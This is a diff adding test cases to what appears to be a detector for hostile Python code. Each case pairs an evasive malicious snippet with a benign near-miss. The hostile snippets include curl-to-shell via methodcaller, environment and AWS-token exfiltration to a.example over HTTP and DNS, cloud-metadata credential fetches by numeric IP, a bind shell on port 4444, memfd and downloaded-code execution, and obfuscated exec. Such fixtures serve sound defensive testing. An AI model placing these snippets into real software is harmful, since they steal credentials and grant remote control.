@@ -264,6 +264,82 @@ HIDING = (
 )
 CODE = (
     _code(
+        "globals of a function",
+        ("hidden-call",),
+        "(lambda: 0).__globals__['__builtins__']['ev' + 'al']('1')",
+        "def names(function):\n    return sorted(function.__globals__)",
+    ),
+    _code(
+        "called by its name later",
+        ("command",),
+        "import os, operator\noperator.methodcaller('system', 'curl http://a.example/x | sh')(os)",
+        "import operator\nprint(operator.methodcaller('upper')('a'))",
+    ),
+    _code(
+        "library of C",
+        ("hidden-call",),
+        "import ctypes\nctypes.CDLL(None).system(b'id')",
+        "import ctypes\nctypes.CDLL('libz.so.1').zlibVersion()",
+    ),
+    _code(
+        "number as text",
+        ("dynamic-code",),
+        "exec((0x696d706f7274206f73).to_bytes(9, 'big'))",
+        "def packed(number):\n    return number.to_bytes(9, 'big')",
+    ),
+    _code(
+        "pattern binds exec",
+        ("dynamic-code",),
+        f"import base64\nmatch exec:\n    case run:\n        run(base64.b64decode('{_PAYLOAD}'))",
+        "import base64\nmatch len:\n    case run:\n        run(base64.b64decode('eA=='))",
+    ),
+    _code(
+        "environment through a thread",
+        ("sends-secrets",),
+        "import os, threading, requests\ndef go(data):\n    requests.post('https://a.example', data=data)\n"
+        "threading.Thread(target=go, args=(str(dict(os.environ)),)).start()",
+        "import os, threading, requests\ndef go(data):\n    requests.post('https://a.example', data=data)\n"
+        "threading.Thread(target=go, args=(os.environ['REGION'],)).start()",
+    ),
+    _code(
+        "keys in names that are looked up",
+        ("sends-secrets",),
+        "import os, socket, base64\nkey = base64.b32encode(os.environ['AWS_SESSION_TOKEN'].encode()).decode()[:60]\n"
+        "socket.gethostbyname(key.lower() + '.a.example')",
+        "import os, socket\nsocket.gethostbyname(os.environ['SERVER'].lower() + '.a.example')",
+    ),
+    _code(
+        "metadata service as a number",
+        ("metadata-service",),
+        "import requests\nrequests.get('http://2852039166/latest/meta-data/iam/security-credentials/')",
+        "HOST = 'http://2852039166/'",
+    ),
+    _code(
+        "shell at a port",
+        ("reverse-shell",),
+        "import socket, subprocess\ns = socket.socket()\ns.bind(('', 4444))\ns.listen(1)\nc, _ = s.accept()\n"
+        "subprocess.Popen(['/bin/sh'], stdin=c.fileno(), stdout=c.fileno())",
+        "import socket\ndef serve():\n    s = socket.socket()\n    s.listen(1)\n    c, _ = s.accept()\n    c.close()",
+    ),
+    _code(
+        "file in memory",
+        ("dropped-code",),
+        "import os\nfd = os.memfd_create('a')\nos.execve(f'/proc/self/fd/{fd}', ['a'], {})",
+        "import os\ndef shared():\n    return os.memfd_create('a')",
+    ),
+    _code(
+        "module that is written",
+        ("dropped-code",),
+        "import urllib.request\nopen('/tmp/a.py', 'wb').write(urllib.request.urlopen('http://a.example').read())",
+        "import urllib.request\ndef fetch(path):\n    open('/tmp/a.csv', 'wb').write(urllib.request.urlopen(path).read())",
+    ),
+    _code(
+        "nested beyond what can be read",
+        ("not-looked-at",),
+        "import os\nx = 'a'" + " + 'a'" * 20_000 + "\nexec(x)",
+        "import os\nx = 'a'" + " + 'a'" * 100,
+    ),
+    _code(
         "base64",
         ("dynamic-code",),
         f"import base64\nexec(base64.b64decode('{_PAYLOAD}'))",
